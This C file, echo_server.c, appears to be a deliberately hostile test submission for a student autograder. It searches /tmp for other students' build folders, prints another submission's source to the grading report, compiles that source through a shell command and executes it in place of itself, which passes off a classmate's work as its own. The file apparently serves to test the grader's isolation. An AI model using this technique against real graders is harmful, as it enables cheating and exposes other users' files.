/* echo_server.c - hostile: copy a classmate graded at the same time.
 *
 * The grader builds every submission in a scratch folder under /tmp, readable by the uid the
 * programs run as. Look for one that is not ours for up to 5 s, quote its source on stderr
 * (the report shows it), build it and become it. */
#include "wlh.h"

#include <dirent.h>

int main(int argc, char **argv)
{
	char self[600], src[700], cmd[1600];
	ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);

	(void)argc;
	self[n > 0 ? n : 0] = '\0';
	for (double end = wlh_now() + 5; wlh_now() < end; wlh_sleep_ms(20)) {
		DIR *d = opendir("/tmp");
		struct dirent *e;
		src[0] = '\0';
		while (d && !src[0] && (e = readdir(d)) != NULL) {
			if (strncmp(e->d_name, "wirelab-build-", 14) != 0 || strstr(self, e->d_name))
				continue;
			snprintf(src, sizeof src, "/tmp/%s/src/echo_server.c", e->d_name);
			char *text = wlh_slurp(src, 1 << 20);
			if (!text || !strstr(text, "classmate:"))
				src[0] = '\0';
			else
				fprintf(stderr, "%.400s\n", text);
			free(text);
		}
		if (d)
			closedir(d);
		if (!src[0])
			continue;
		snprintf(cmd, sizeof cmd, "cc -O2 -pthread -o mine '%s' 2>/dev/null", src);
		if (system(cmd) == 0) {
			wlh_evidence("classmate", "built %s", src);
			execv("./mine", argv);
		}
	}
	return 1;
}
